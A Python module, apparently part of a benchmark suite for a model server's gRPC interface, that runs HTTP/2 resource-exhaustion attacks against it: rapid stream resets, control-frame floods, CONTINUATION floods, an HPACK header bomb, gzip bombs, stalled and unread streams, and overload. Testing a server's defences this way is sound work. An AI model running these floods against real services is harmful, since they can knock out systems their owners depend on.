"""The attacks on gRPC: frames that cost a client little, and messages that take much memory."""

from __future__ import annotations

import threading
import time
from collections import Counter
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from benchmarks.attacks.grpc_connection import (
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
    headers,
    message,
)
from benchmarks.attacks.payloads import MEGABYTE, Text
from benchmarks.attacks.target import Address

from lightship import protos

Outcome = Counter[str]
Run = Callable[[], Outcome]
_SECONDS = 10.0  # of a flood
_BURST = 500  # frames that are sent at once
_PATIENCE = 60.0  # seconds
_CANCEL = (8).to_bytes(4, "big")
_OVERLOAD_CONNECTIONS = 8
_TICK = 0.005  # seconds


def small_request(address: Address) -> bytes:
    """A Predict of one instance of the toy model."""
    request = protos.PredictRequest()
    request.model_spec.name = address.toy_name
    tensor = request.inputs[address.toy_input]
    tensor.dtype = 1
    for size in (1, address.width) if address.width else (1,):
        tensor.tensor_shape.dim.add().size = size
    tensor.float_val.extend([1.0] * max(1, address.width))
    return bytes(request.SerializeToString())


def photo_request(address: Address) -> bytes:
    """A Predict of the model of photos: it decodes one."""
    request = protos.PredictRequest()
    request.model_spec.name = address.photos_name
    request.model_spec.signature_name = "image_bytes"
    tensor = request.inputs["image_bytes"]
    tensor.dtype = 7
    tensor.tensor_shape.dim.add().size = 1
    tensor.string_val.append(Path(address.photo).read_bytes())
    return bytes(request.SerializeToString())


def _flood(burst: Callable[[Connection], bytes]) -> Callable[[Address, float], Run]:
    """Sends bursts of frames as fast as it can, on a new connection each time the server closes one."""

    def prepare(address: Address, scale: float) -> Run:
        def run() -> Outcome:
            end, outcome = time.monotonic() + _SECONDS * scale, Outcome()
            while time.monotonic() < end:
                connection = Connection(address.grpc_port)
                outcome["connections"] += 1
                while not connection.closed and time.monotonic() < end:
                    connection.write(burst(connection))
                    if not connection.closed:
                        connection.read_what_is_there()
                connection.close()
            return outcome

        return run

    return prepare


def _resets(address: Address, scale: float) -> Run:
    block, call = headers(), message(small_request(address))

    def burst(connection: Connection) -> bytes:
        frames = []
        for stream in connection.numbers(_BURST):
            frames.append(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 1, stream, call))
            frames.append(frame(RST_STREAM, 0, stream, _CANCEL))
        return b"".join(frames)

    return _flood(burst)(address, scale)


def _header_bomb(connection: Connection) -> bytes:
    """One entry of 4,000 bytes in the table, named 10,000 times in a header block."""
    block = b"\x40\x01a\x7f\xa1\x1e" + bytes(4000) + b"\xbe" * 10_000
    return frame(HEADERS, END_HEADERS | 1, *connection.numbers(1), block)


def _continuations(connection: Connection) -> bytes:
    (stream,) = connection.numbers(1)
    return frame(HEADERS, 1, stream, b"\x82") + frame(9, 0, stream) * 5000


def _unfinished(address: Address, scale: float) -> Run:
    """Eight messages of 200 MB, of which all but the last byte is sent."""
    size = int(200 * MEGABYTE * scale)
    part = bytes(size - 1)

    def one(_: int) -> Outcome:
        connection = Connection(address.grpc_port)
        stream = connection.start(headers())
        connection.read()  # the server's windows
        connection.send(stream, message(part, length=size), end=False)
        time.sleep(5 * scale)
        return _ends(connection, "unfinished")

    def run() -> Outcome:
        with ThreadPoolExecutor(8) as threads:
            return sum(threads.map(one, range(8)), Outcome())

    return run


def _ends(connection: Connection, otherwise: str) -> Outcome:
    """How the streams of a connection have ended until now."""
    if not connection.closed:
        connection.read_what_is_there()
    outcome = connection.ends + Counter({otherwise: len(connection.open)})
    connection.close()
    return outcome


def _gzips(address: Address, scale: float) -> Run:
    """Three messages of 1.5 MB, each a gzip of 1.5 GB."""
    zeros = Text(b"", bytes(MEGABYTE), max(1, int(1500 * scale)), b"").gzipped()
    block, data = headers(), message(zeros, compressed=True)
    block += headers_of(("grpc-encoding", "gzip"))

    def one(_: int) -> Outcome:
        connection = Connection(address.grpc_port)
        connection.send(connection.start(block), data)
        connection.finish(_PATIENCE)
        return connection.ends

    def run() -> Outcome:
        with ThreadPoolExecutor(3) as threads:
            return sum(threads.map(one, range(3)), Outcome())

    return run


def headers_of(*fields: tuple[str, str]) -> bytes:
    """A part of a header block."""
    whole = headers("/", *fields)
    return whole[len(headers("/")) :]


def _idle(address: Address, scale: float) -> Run:
    """2,000 streams on four connections, which are opened and left."""

    def run() -> Outcome:
        connections = [Connection(address.grpc_port) for _ in range(4)]
        for connection in connections:
            connection.read()
            for _ in range(int(500 * scale)):
                connection.start(headers())
        time.sleep(_SECONDS * scale)
        return sum((_ends(one, "idle") for one in connections), Outcome())

    return run


def _closed_windows(address: Address, scale: float) -> Run:
    """Calls whose answers the client never takes."""
    call = message(small_request(address))

    def run() -> Outcome:
        connections = [Connection(address.grpc_port) for _ in range(10)]
        for connection in connections:
            connection.write(frame(SETTINGS, 0, 0, b"\0\4" + bytes(4)))
            for _ in range(int(500 * scale)):
                connection.send(connection.start(headers()), call)
        time.sleep(_SECONDS * scale)
        return sum((_ends(one, "not taken") for one in connections), Outcome())

    return run


def overload(address: Address, request: bytes, seconds: float, factor: float = 10.0, warm: float = 2.0) -> Outcome:
    """Measures how many calls a second are answered, 8 at once, and sends `factor` times as many for `seconds`."""
    call = message(request)
    _closed_loop(address, call, warm / 2)
    rate = factor * _closed_loop(address, call, warm) / warm
    connections = [Connection(address.grpc_port) for _ in range(_OVERLOAD_CONNECTIONS)]
    for connection in connections:
        connection.read()
    with ThreadPoolExecutor(len(connections)) as threads:
        share = rate / len(connections)
        return sum(threads.map(lambda one: _offered(one, call, share, seconds), connections), Outcome())


def _offered(connection: Connection, call: bytes, rate: float, seconds: float) -> Outcome:
    begun, sent, block = time.monotonic(), 0, headers()
    while (passed := time.monotonic() - begun) < seconds and not connection.closed:
        while sent < passed * rate and not connection.closed:
            connection.send(connection.start(block), call)
            sent += 1
        connection.read_what_is_there()
        time.sleep(_TICK)
    connection.finish(_PATIENCE)
    return connection.ends


def _closed_loop(address: Address, call: bytes, seconds: float) -> int:
    """Returns the calls that were answered for clients that wait for each answer."""
    lock, answered = threading.Lock(), [0]

    def one(_: int) -> None:
        connection, end = Connection(address.grpc_port), time.monotonic() + seconds
        while time.monotonic() < end and not connection.closed:
            connection.send(connection.start(headers()), call)
            while connection.open and not connection.closed:
                connection.read()
        connection.close()
        with lock:
            answered[0] += connection.ends["OK"]

    with ThreadPoolExecutor(_OVERLOAD_CONNECTIONS) as threads:
        list(threads.map(one, range(_OVERLOAD_CONNECTIONS)))
    return answered[0]


def _overload(address: Address, scale: float) -> Run:
    request = photo_request(address)
    return lambda: overload(address, request, 60.0 * scale)


def _repeated(one: bytes, count: int) -> Callable[[Address, float], Run]:
    return _flood(lambda _: one * count)


# Name, title, what the server did before it was defended, and what prepares the attack.
GRPC_ATTACKS: Sequence[tuple[str, str, str, Callable[[Address, float], Run]]] = (
    ("grpc-resets", "gRPC: streams that are opened and reset, for 10 s", "others wait 17 s, 650 MB", _resets),
    ("grpc-settings", "gRPC: a flood of SETTINGS", "", _repeated(frame(SETTINGS, 0, 0, b"\0\4\0\0\1\0"), 2000)),
    ("grpc-pings", "gRPC: a flood of PING", "", _repeated(frame(PING, 0, 0, bytes(8)), 2000)),
    ("grpc-windows", "gRPC: windows that grow by 1 byte", "", _repeated(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), 5000)),
    ("grpc-continuations", "gRPC: header blocks without end", "", _flood(_continuations)),
    ("grpc-header-bomb", "gRPC: headers of 40 MB in 14 KB", "", _flood(_header_bomb)),
    ("grpc-idle", "gRPC: 2,000 streams that are opened and left", "others wait 25 s", _idle),
    ("grpc-closed-windows", "gRPC: 5,000 answers that are not taken", "", _closed_windows),
    ("grpc-unfinished", "gRPC: eight messages of 200 MB without their last byte", "1.7 GB", _unfinished),
    ("grpc-gzips", "gRPC: three gzips of 1.5 MB for 1.5 GB each", "6-8 GB", _gzips),
    ("grpc-overload", "gRPC: 10 times the photos it can take, for a minute", "8 GB", _overload),
)
